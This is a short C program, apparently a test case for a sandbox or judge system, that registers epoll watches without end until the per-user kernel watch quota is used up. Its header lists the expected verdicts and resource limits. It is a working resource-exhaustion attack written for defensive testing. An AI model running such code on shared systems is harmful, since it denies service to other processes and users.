/* attack: registers files for epoll without end, of which a user has a fixed number
 * verdict: OK TLE MLE ILE
 * outside: others still register theirs
 * limits: cpu=300ms wall=60s memory=64M procs=8 open_files=256 */
#include <errno.h>
#include <stdio.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <unistd.h>

enum { WATCHED = 16, NUMBERS = 200 };

/* A watch is known by its file and its number, and stays while the file is open somewhere. */
static int watch_all(int files[], int set)
{
    struct epoll_event event = {.events = 0};
    for (int number = 50; number < 50 + NUMBERS; number++)
        for (int i = 0; i < WATCHED; i++) {
            if (dup2(files[i], number) < 0)
                return 0;
            if (epoll_ctl(set, EPOLL_CTL_ADD, number, &event) < 0 && errno == ENOSPC)
                return printf("through: all watches of the user\n");
        }
    return 0;
}

int main(void)
{
    int files[WATCHED], set;
    for (int i = 0; i < WATCHED; i++)
        files[i] = eventfd(0, 0);
    while ((set = epoll_create1(0)) >= 0 && set < 50)
        if (watch_all(files, set))
            return 1;
    return 0;
}
